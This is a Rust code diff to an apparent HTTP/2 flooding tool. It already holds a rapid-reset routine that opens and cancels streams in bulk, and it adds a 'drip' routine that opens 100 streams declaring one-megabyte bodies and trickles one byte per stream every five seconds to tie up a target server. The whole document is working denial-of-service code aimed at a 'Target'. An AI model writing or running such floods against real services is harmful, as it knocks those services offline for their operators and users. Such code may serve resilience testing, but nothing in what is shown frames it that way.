@@ -2,9 +2,11 @@
 
 use super::floods::{Hostile, Target};
 use std::io::{ErrorKind, Result};
+use std::time::Duration;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
@@ -15,8 +17,13 @@ const END_HEADERS: u8 = 4;
 const CODE: [u8; 4] = [0, 0, 0, 8];
 /// Streams of one connection have odd numbers below 2^31.
 const STREAMS_MAX: u32 = 1 << 30;
-/// Resets in one write: as fast as it goes.
+/// Resets in one write: as fast as it goes. Less than the streams that a connection may have.
 const BATCH: u32 = 100;
+/// Between two streams with a body that comes slowly: a service is not to drown in connections before it has to wait.
+const STREAM_PAUSE: Duration = Duration::from_millis(100);
+/// Bytes of such a body and the time between two. Then it begins anew.
+const DRIPS: u32 = 12;
+const DRIP_PAUSE: Duration = Duration::from_secs(5);
 
 /// Requests that are taken back as soon as they are sent.
 pub(super) async fn reset(target: &Target, number: usize) -> Result<()> {
@@ -29,6 +36,26 @@ pub(super) async fn reset(target: &Target, number: usize) -> Result<()> {
             target.note();
         }
         write(&mut hostile, &bytes).await?;
+    }
+    Ok(())
+}
+
+/// Requests whose bodies come byte by byte, all that one connection may have.
+pub(super) async fn drip(target: &Target, number: usize) -> Result<()> {
+    let mut hostile = open(target, number).await?;
+    let head = block(&[("content-length", "1000000")]);
+    for number in 0..BATCH {
+        let mut bytes = Vec::new();
+        put(&mut bytes, HEADERS, END_HEADERS, number * 2 + 1, &head);
+        write(&mut hostile, &bytes).await?;
+        tokio::time::sleep(STREAM_PAUSE).await;
+    }
+    for _ in 0..DRIPS {
+        tokio::time::sleep(DRIP_PAUSE).await;
+        let mut bytes = Vec::new();
+        (0..BATCH).for_each(|number| put(&mut bytes, DATA, 0, number * 2 + 1, b"x"));
+        write(&mut hostile, &bytes).await?;
+        target.note();
     }
     Ok(())
 }
